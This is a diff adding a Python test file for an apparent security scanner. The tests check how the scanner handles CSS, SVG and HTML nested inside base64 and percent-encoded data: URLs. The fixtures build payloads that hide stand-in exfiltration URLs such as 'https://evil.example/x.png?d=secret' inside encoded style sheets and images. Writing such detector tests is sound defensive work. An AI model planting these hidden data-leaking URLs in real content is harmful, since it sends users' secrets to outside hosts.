@@ -1,0 +1,122 @@
+"""CSS read inside a ``data:`` URL costs what the same CSS costs inline (adversary13 D6): each
+URL a nested document fetches was searched for in the whole tag that holds it, where a decoded
+document's URLs are written nowhere (20,000 ``url()`` of 320 KB took 12 s). Counted in the
+characters searched and the Python calls, never timed; and charged to the text's budget."""
+
+from __future__ import annotations
+
+import base64
+import urllib.parse
+from pathlib import Path
+
+import pytest
+from hotplex import Project
+from hotplex.scanning import fetched
+from hotplex.text import memo
+from test_findings_cost import _calls
+
+EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "basic"
+EVIL = "https://evil.example/x.png?d=secret"
+
+
+def _sheet(rules: int) -> str:
+    return "a{b:url(#x)}" * rules + f"x{{background:url({EVIL})}}"
+
+
+def _base64(media_type: str, document: str) -> str:
+    return f"data:{media_type};base64,{base64.b64encode(document.encode()).decode()}"
+
+
+PAYLOADS = {
+    "css base64": lambda n: f'<link rel=stylesheet href="{_base64("text/css", _sheet(n))}">\n',
+    "css percent": lambda n: (
+        f'<link rel=stylesheet href="data:text/css,{urllib.parse.quote(_sheet(n), safe="")}">\n'
+    ),
+    "svg style": lambda n: '<iframe src="{}"></iframe>\n'.format(
+        _base64("image/svg+xml", f"<svg><style>{_sheet(n)}</style></svg>")
+    ),
+    "html style attribute": lambda n: '<iframe src="{}"></iframe>\n'.format(
+        _base64("text/html", f'<div style="{"b:url(#x);" * n}b:url({EVIL})">x</div>')
+    ),
+    "foreign hosts": lambda n: '<link rel=stylesheet href="{}">\n'.format(
+        _base64("text/css", "".join(f"a{{b:url(https://h{i}.example/)}}" for i in range(n)))
+    ),
+}
+
+
+@pytest.fixture
+def searched(monkeypatch) -> list[fetched.Cursor]:
+    """Every cursor that places a URL in the text, to count what it searched."""
+    cursors: list[fetched.Cursor] = []
+
+    class Counted(fetched.Cursor):
+        def __init__(self, text: str) -> None:
+            super().__init__(text)
+            cursors.append(self)
+
+    monkeypatch.setattr(fetched, "Cursor", Counted)
+    return cursors
+
+
+def _checked(text: str) -> list[str]:
+    with memo.uncached():
+        answer = Project.load(EXAMPLE).check({"MEMORY.md": text})
+    return [finding["rule"] for finding in answer.to_json()["findings"]]
+
+
+@pytest.mark.parametrize("kind", PAYLOADS)
+def test_twice_the_rules_of_a_nested_style_sheet_cost_twice(searched, kind) -> None:
+    # Sizes just past 2 KB and 4 KB of CSS: a style sheet is tokenized in pieces growing
+    # fourfold (stylesheets.Known), the same number of them at both.
+    rules = 80 if kind == "foreign hosts" else 180
+    small, large = PAYLOADS[kind](rules), PAYLOADS[kind](2 * rules)
+    for text in (small, large):
+        searched.clear()
+        assert "image-url-data" in _checked(text)
+        # Each tag is searched through a few times in all (by the rule that reads the text
+        # as written, the attribute its URL decodes from, the rendered text), not once a URL.
+        assert sum(cursor.searched for cursor in searched) <= 4 * len(text)
+    assert _calls(_checked, large) <= 2.2 * _calls(_checked, small)
+
+
+def test_the_urls_of_one_tag_are_placed_in_the_order_written() -> None:
+    text = '<img src="https://a.example/x" srcset="https://a.example/x 1x, https://b.example/ 2x">'
+    cursor = fetched.Cursor(text)
+    first = cursor.place("https://a.example/x", 0, len(text))
+    second = cursor.place("https://a.example/x", 0, len(text))
+    assert text[first[0] - 5 : first[0]] == 'src="'
+    assert text[second[0] - 8 : second[0]] == 'srcset="'
+    assert text[slice(*cursor.place("https://b.example/", 0, len(text)))] == "https://b.example/"
+    # A URL written nowhere in the tag (decoded from a nested document) is placed at the tag,
+    # and so is every one after it, unsearched.
+    assert cursor.place("https://c.example/", 0, len(text)) == (0, len(text))
+    done = cursor.searched
+    assert cursor.place("https://a.example/x", 0, len(text)) == (0, len(text))
+    assert cursor.searched == done
+
+
+@pytest.mark.parametrize("kind", ["css base64", "html style attribute"])
+def test_css_read_inside_a_data_url_is_charged_to_the_texts_budget(kind) -> None:
+    text = PAYLOADS[kind](400)
+    budget = fetched.Budget(10**9)
+    fetched.read(text, 0, budget)
+    assert budget.spent >= len("a{b:url(#x)}") * 400
+    spent = fetched.Budget(len(text))
+    spent.spent = spent.limit + 1  # what the text read before left nothing
+    seen = fetched.read(text, 0, spent)
+    assert seen.unread == 0
+    assert not [f for f in seen.fetches if f.host == "evil.example"]
+
+
+def test_a_tags_own_url_after_a_nested_documents_is_placed_where_written() -> None:
+    """A nested document's URLs, written nowhere, are placed with a cursor of their own: the
+    tag's own URL after them is still found where it is written, a finding of its own."""
+    document = (
+        '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/a"/></svg>'
+    )
+    data = _base64("image/svg+xml", document)
+    text = f'<img src="{data}" srcset="https://evil2.example/x?d=1 1x">\n'
+    with memo.uncached():
+        answer = Project.load(EXAMPLE).check({"MEMORY.md": text})
+    columns = {f["column"] for f in answer.to_json()["findings"] if f["rule"] == "image-url-data"}
+    assert columns == {1, text.index("https://evil2") + 1}
